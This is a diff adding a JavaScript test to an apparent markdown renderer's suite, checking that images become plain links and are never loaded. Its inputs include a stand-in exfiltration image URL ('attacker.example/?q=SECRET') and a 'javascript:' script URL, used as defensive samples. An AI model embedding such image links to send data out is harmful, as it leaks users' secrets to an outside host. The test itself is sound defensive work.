@@ -129,6 +129,19 @@ describe("where a link goes", () => {
   });
 });
 
+describe("images", () => {
+  it("an image is a link to it, never loaded: its text shows instead of vanishing, and rendering sends nothing anywhere", () => {
+    const frag = markdownFragment("See ![The login flow](docs/login.png) and ![](https://attacker.example/?q=SECRET) and ![x](javascript:alert(1))");
+    assert.equal(frag.querySelectorAll("img").length, 0);
+    const links = [...frag.querySelectorAll("a")].map((a) => [a.textContent, a.getAttribute("href")]);
+    assert.deepEqual(links, [
+      ["Image: The login flow", "docs/login.png"],
+      ["Image: https://attacker.example/?q=SECRET", "https://attacker.example/?q=SECRET"],
+      ["Image: x", null],
+    ]);
+  });
+});
+
 describe("workspace links", () => {
   it("opens a file whose name holds a % that is no escape (100%.md), and decodes the escapes of others", () => {
     const host = new FakeHost();
